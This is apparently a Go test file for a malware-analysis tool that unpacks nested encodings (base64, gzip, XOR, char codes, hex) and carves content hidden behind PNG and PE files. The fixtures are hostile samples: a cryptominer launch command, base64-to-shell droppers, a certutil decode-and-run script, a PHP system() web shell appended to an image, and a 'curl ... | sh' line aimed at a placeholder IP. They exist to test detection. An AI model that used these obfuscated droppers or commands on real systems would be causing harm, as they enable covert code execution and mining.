package catalogue

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"lamproom/dissection"
	"lamproom/evidence"
	"lamproom/observation"
)

// told is what a walk gave: every evidence with its place, and the damage.
type told struct {
	evidence []string
	damage   []string
	commands []string
}

func (o *told) Evidence(ev *evidence.Evidence) {
	at := ""
	if ev.Within != nil {
		at = fmt.Sprintf(" from [%d,+%d)", ev.Within.Offset, ev.Within.Length)
	}
	o.evidence = append(o.evidence, fmt.Sprintf("%s: %s, %d bytes%s", ev.Name, ev.Kind, ev.Size, at))
}

func (o *told) Observe(x observation.Observation) error {
	if c, ok := x.Fact.(observation.CommandLine); ok {
		o.commands = append(o.commands, x.Where.Evidence.Name+": "+c.Raw.Text)
	}
	return nil
}
func (o *told) Damage(d dissection.Damage) { o.damage = append(o.damage, d.Name+": "+d.Reason) }
func (o *told) Skip(dissection.Skip)       {}

func walk(t *testing.T, name string, data []byte, budget dissection.Budget) *told {
	t.Helper()
	spool, err := dissection.NewSpool(t.TempDir(), 1<<20)
	if err != nil {
		t.Fatal(err)
	}
	defer spool.Close()
	o := &told{}
	w := dissection.Walker{Dissectors: All(nil), Budget: budget, Spool: spool}
	if err := w.Walk(context.Background(), &evidence.Evidence{Name: name, Size: int64(len(data))}, bytes.NewReader(data), o); err != nil {
		t.Fatal(err)
	}
	return o
}

const miner = "cd /tmp; ./sys -o pool.example.org:3333 -u worker.1 -p x -k --background >/dev/null 2>&1 &"

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func zipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// codes writes a text as PowerShell does to hide it.
func codes(s string) string {
	var out []string
	for _, c := range []byte(s) {
		out = append(out, fmt.Sprintf("[char]%d", c))
	}
	return strings.Join(out, "+")
}

func xor(b []byte, key string) []byte {
	out := bytes.Clone(b)
	for i := range out {
		out[i] ^= key[i%len(key)]
	}
	return out
}

// noise is data without a pattern, the same every time.
func noise(n int) []byte {
	b, x := make([]byte, n), uint32(2463534242)
	for i := range b {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x >> 11)
	}
	b[0], b[1] = 0, 1 // data, not text
	return b
}

// program is the least that passes for a PE file: headers, one section, and a
// text in it.
func program(text string) []byte {
	b := make([]byte, 0x400)
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x4e:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00\x4c\x01\x01\x00")
	binary.LittleEndian.PutUint16(b[0x94:], 0xe0)
	s := b[0x80+24+0xe0:]
	copy(s, ".text")
	binary.LittleEndian.PutUint32(s[16:], 0x200)
	binary.LittleEndian.PutUint32(s[20:], 0x200)
	copy(b[0x200:], text)
	return b
}

func png() []byte {
	chunk := func(kind string, data []byte) []byte {
		b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
		return append(append(append(b, kind...), data...), 0, 0, 0, 0)
	}
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", make([]byte, 13))...)
	b = append(b, chunk("IDAT", noise(200))...)
	return append(b, chunk("IEND", nil)...)
}

func TestLayersAreNested(t *testing.T) {
	script := []byte("#!/bin/sh\n" + miner + "\n")
	long := append(bytes.Clone(script), bytes.Repeat([]byte("# a line that is only there to be long\n"), 150_000)...)
	for _, tt := range []struct {
		name string
		data []byte
		want []string
	}{
		{"a.sh", []byte("#!/bin/sh\necho " + b64(script) + " | base64 -d | sh\n"),
			[]string{"a.sh!base64: shell, 101 bytes from [15,+136)", "a.sh: shell, 169 bytes"}},
		{"gz.sh", []byte("#!/bin/sh\necho " + b64(zipped(script)) + " | base64 -d | gunzip | sh\n"),
			[]string{"gz.sh!base64!gzip: shell, 101 bytes", "gz.sh!base64: gzip", "gz.sh: shell"}},
		{"twice.py", []byte("import base64\nexec(base64.b64decode(base64.b64decode('" + b64([]byte(b64([]byte("import os\nos.system('"+miner+"')\n")))) + "')))\n"),
			[]string{"twice.py!base64!base64: source:python", "twice.py!base64: text", "twice.py: source:python"}},
		{"comment.sh", []byte("#!/bin/sh\n# echo " + b64(script) + " | base64 -d | sh\necho done\n"),
			[]string{"comment.sh: shell"}},
		{"pieces.sh", []byte("#!/bin/sh\na=" + b64(script)[:30] + "\nb=" + b64(script)[30:90] + "\nc=" + b64(script)[90:] + "\necho $a$b$c | base64 -d | sh\n"),
			[]string{"pieces.sh!base64: shell, 101 bytes", "pieces.sh: shell"}},
		{"lines.bat", []byte("@echo off\r\necho " + b64(script)[:60] + ">t.b64\r\necho " + b64(script)[60:120] + ">>t.b64\r\necho " + b64(script)[120:] + ">>t.b64\r\ncertutil -decode t.b64 t.exe\r\nt.exe\r\n"),
			[]string{"lines.bat!base64: shell, 101 bytes", "lines.bat: batch"}},
		{"codes.ps1", []byte("iex (" + codes(miner+strings.Repeat("\n# and so on", 20)) + ")\n"),
			[]string{"codes.ps1!char codes: ", "codes.ps1: powershell"}},
		{"long.sh", []byte("#!/bin/sh\necho " + b64(long) + " | base64 -d | sh\n"),
			[]string{"long.sh!base64: shell, " + fmt.Sprint(len(long)) + " bytes", "long.sh: shell"}},
		{"long.hex", []byte("x = 0x" + hex.EncodeToString(long) + ";\n"),
			[]string{"long.hex!hex: shell, " + fmt.Sprint(len(long)) + " bytes", "long.hex: ini"}},
		{"masked.bin", append(append(noise(5000), xor([]byte("\nhttp://192.0.2.1/a "+miner+"\n"), "\xa5")...), noise(3000)...),
			[]string{"masked.bin!xor a5: text", "masked.bin: data"}},
		{"key.bin", append(append(noise(5000), xor(bytes.Repeat(script, 3), "s3cr3t!")...), noise(3000)...),
			[]string{"key.bin!xor 73336372337421 (7 bytes): shell, 30", "key.bin: data"}},
		{"pe.bin", append(append(noise(5000), xor(program(miner), "\x5a\x17")...), noise(100)...),
			[]string{"pe.bin!xor 5a17 (2 bytes): data, 1024 bytes from [5000,+1024)", "pe.bin: data"}},
		{"behind.png", append(png(), "\n<?php system('"+miner+"'); ?>\n"...),
			[]string{"behind.png!carved at 257", "behind.png: data"}},
		{"behind.txt", append(bytes.Repeat([]byte("only a text, line by line\n"), 300), zipped(bytes.Repeat(script, 5))...),
			[]string{"behind.txt!carved at 7800!gzip: shell", "behind.txt!carved at 7800: gzip", "behind.txt: text"}},
		{"behind.exe", append(program("hello"), script...), []string{"behind.exe!carved at 1024: shell", "behind.exe: data"}},
		{"plain.png", png(), []string{"plain.png: data"}},
		{"inside.bin", append(append(append(noise(4321), zipped(script)...), noise(1000)...), program("hello, world, "+miner)...),
			[]string{"inside.bin!carved at 4321!gzip: shell", "inside.bin!carved at 4321: gzip", "inside.bin!carved at 5", "inside.bin: data"}},
		{"noise.bin", noise(300_000), []string{"noise.bin: data"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := walk(t, tt.name, tt.data, dissection.DefaultBudget())
			ok := len(got.evidence) == len(tt.want)
			for i := 0; ok && i < len(tt.want); i++ {
				ok = strings.HasPrefix(got.evidence[i], tt.want[i])
			}
			if !ok {
				t.Error(cmp.Diff(tt.want, got.evidence))
			}
			if len(got.damage) > 0 {
				t.Errorf("damage: %q", got.damage)
			}
			if again := walk(t, tt.name, tt.data, dissection.DefaultBudget()); !cmp.Equal(again.evidence, got.evidence) {
				t.Error("the same bytes were told differently")
			}
		})
	}
}

func TestBombsEndAsDamage(t *testing.T) {
	deep := []byte("#!/bin/sh\n" + miner + "\n")
	for range 22 {
		deep = []byte(b64(deep))
	}
	budget := dissection.DefaultBudget()
	budget.Bytes = 1 << 20
	many := &bytes.Buffer{}
	for i := range 3000 {
		fmt.Fprintf(many, "x%d = '%s'\n", i, b64(fmt.Appendf(nil, "curl http://192.0.2.1/%d | sh\n", i)))
	}
	for _, tt := range []struct {
		name   string
		data   []byte
		budget dissection.Budget
		want   string
	}{
		{"deep.txt", append([]byte("x="), deep...), dissection.DefaultBudget(), "nested more than 16 deep"},
		{"wide.sh", []byte("#!/bin/sh\necho " + b64(zipped(make([]byte, 8<<20))) + " | base64 -d | gunzip\n"), budget, "unpacks to more than 1048576 bytes"},
		{"many.py", many.Bytes(), dissection.DefaultBudget(), "only the first 1000 encoded layers are examined, 2000 more are not"},
	} {
		got := walk(t, tt.name, tt.data, tt.budget)
		if len(got.damage) != 1 || !strings.Contains(got.damage[0], tt.want) {
			t.Errorf("%s: damage %q, want one with %q", tt.name, got.damage, tt.want)
		}
	}
}
